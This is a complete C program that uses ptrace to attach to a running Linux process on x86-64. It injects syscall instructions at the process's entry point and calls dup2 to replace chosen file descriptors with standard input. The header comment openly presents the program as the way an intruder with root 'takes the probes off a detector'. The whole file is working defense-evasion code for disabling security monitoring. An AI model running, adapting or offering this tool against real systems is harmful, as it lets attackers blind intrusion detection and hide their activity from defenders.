// SPDX-License-Identifier: MIT OR Apache-2.0
// unplug PID FD...: makes a process put its standard input in place of descriptors of its own, by ptrace: how an intruder with root takes the
// probes off a detector. The call is written where no thread comes by: at the program's entry. x86-64 only.
#include <elf.h>
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/user.h>
#include <sys/wait.h>

#define SYSCALL_INSTRUCTION 0x050fL

static unsigned long entry_of(pid_t pid)
{
    char path[64];
    Elf64_auxv_t one;
    unsigned long entry = 0;
    FILE* file;

    snprintf(path, sizeof path, "/proc/%d/auxv", pid);
    file = fopen(path, "r");
    while (file != NULL && entry == 0 && fread(&one, sizeof one, 1, file) == 1)
        if (one.a_type == AT_ENTRY)
            entry = one.a_un.a_val;
    if (file != NULL)
        fclose(file);
    return entry;
}

static int dup2_in(pid_t pid, const struct user_regs_struct* saved, unsigned long entry, long fd)
{
    struct user_regs_struct regs = *saved;
    int status;

    regs.rip = entry;
    regs.rax = SYS_dup2;
    regs.rdi = 0;
    regs.rsi = (unsigned long)fd;
    regs.orig_rax = (unsigned long)-1; /* a call that the stop broke off must not be restarted here */
    if (ptrace(PTRACE_SETREGS, pid, NULL, &regs) || ptrace(PTRACE_SINGLESTEP, pid, NULL, NULL) || waitpid(pid, &status, 0) < 0 ||
        ptrace(PTRACE_GETREGS, pid, NULL, &regs))
        return -1;
    return (long)regs.rax == fd ? 0 : -1;
}

int main(int argc, char** argv)
{
    struct user_regs_struct saved;
    pid_t pid = argc > 2 ? atoi(argv[1]) : 0;
    unsigned long entry = pid > 0 ? entry_of(pid) : 0;
    int failed = 0, status;
    long code;

    if (entry == 0)
        return 2;
    if (ptrace(PTRACE_ATTACH, pid, NULL, NULL) || waitpid(pid, &status, 0) < 0 || ptrace(PTRACE_GETREGS, pid, NULL, &saved)) {
        perror("attach");
        return 1;
    }
    code = ptrace(PTRACE_PEEKTEXT, pid, entry, NULL);
    ptrace(PTRACE_POKETEXT, pid, entry, (code & ~0xffffL) | SYSCALL_INSTRUCTION);
    for (int i = 2; i < argc; i++)
        failed |= dup2_in(pid, &saved, entry, atol(argv[i]));
    ptrace(PTRACE_POKETEXT, pid, entry, code);
    ptrace(PTRACE_SETREGS, pid, NULL, &saved);
    ptrace(PTRACE_DETACH, pid, NULL, NULL);
    return failed ? 1 : 0;
}
